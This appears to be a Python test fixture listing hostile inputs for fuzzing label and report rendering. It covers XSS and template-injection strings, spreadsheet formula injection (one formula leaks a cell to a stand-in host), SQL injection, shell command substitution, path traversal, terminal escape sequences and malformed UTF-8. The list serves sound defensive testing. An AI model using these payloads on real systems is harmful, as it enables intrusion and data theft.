"""What a hostile label or report may hold: each text would do something where it is not only text."""

SCRIPTS = (
    "<script>window.owned=1</script>",
    '<img src=x onerror="window.owned=1">',
    "</span></td></script><svg onload=window.owned=1>",
    '" autofocus onfocus="window.owned=1" x="',
    "' onmouseover='window.owned=1",
    "javascript:window.owned=1",
    "<style>*{display:none}</style><!--",
    "{{7*7}}{% for x in y %}${7*7}#{7*7}",
    "&lt;b&gt; &amp;#60; %3Cscript%3E",
    "<a href=http://192.0.2.1/>x</a><iframe src=//192.0.2.1>",
    "</textarea><base href=//192.0.2.1/><meta http-equiv=refresh content=0>",
)
FORMULAS = (
    "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://192.0.2.1?x="&A1,"click")', "＝1+1", "A;=1+1", 'A",=1+1,"B', "A;@SUM(1)", " =1+1",
)  # fmt: skip
PRINTABLE = (
    *SCRIPTS, *FORMULAS,
    "#", "+", "acme/leeds/line-1/#", "$SYS/broker/uptime", "../../../etc/passwd", "/", "a//b",
    "L1,tag=x field=1 123", "\\", "a\\", "\\\\\"", '"', "x=1,y=2 z=3", "a b=c\\ d,", "# comment",
    "\\n\\u000a",
    "'; DROP TABLE event; --", '" OR 1=1 --', "1); DELETE FROM event WHERE (1=1", "%' OR '1'='1",
    "%n%n%s%x", "{0.__class__}", "{self.__init__.__globals__}", "%(name)s", "$(id)", "`id`", "| id", "~root",
    "null", "NaN", "1e999", "true", "[]", '{"type":"count"}', "CON", "0", "-0", ".", "..",
    "😀", "é", "ＡＢＣ", "مرحبا", "ﷺ", "漢字",
)  # fmt: skip
"""Nothing of these moves a cursor: the names of things may be like this."""
UNPRINTABLE = (
    "\x1b]52;c;ZXZpbA==\x07", "\x1b[2J\x1b[31mRED", "\x1b]0;owned\x07", "\x9b31mRED", "\x9d52;c;eA==\x9c",
    "L1\nevil,tag=x field=1 123\nL2", "L1\r\nHost: x", "a\tb", "\t=1+1", "a\x00b", "\x00",
    "\x7f\x08\x08", "\x85x",
    "\u202eTFIHS", "\u2066x\u2069", "zero\u200bwidth\u200d\ufeff", "line\u2028end\u2029", "👩‍👩‍👧", "\u00ad",
    "\x1d01\x1e04", "\x06\x15\x05", "\ue000", "\U000e0041",
)  # fmt: skip
NO_TEXT = (
    b"\xed\xa0\x80", b"\xed\xa0\xbd\xed\xb8\x80", b"\xff\xfe\x00", b"\xc0\xaf", b"\xf8\x88\x80\x80\x80",
    b"A\x80B", b"<b>\xe9</b>",
)  # fmt: skip
"""Bytes that are no UTF-8: lone surrogates, an overlong slash, Latin-1."""
LONG = ("x" * 512, "<" * 512, "=" * 512, "y" * 5_000, "\x1b[" * 2_000)
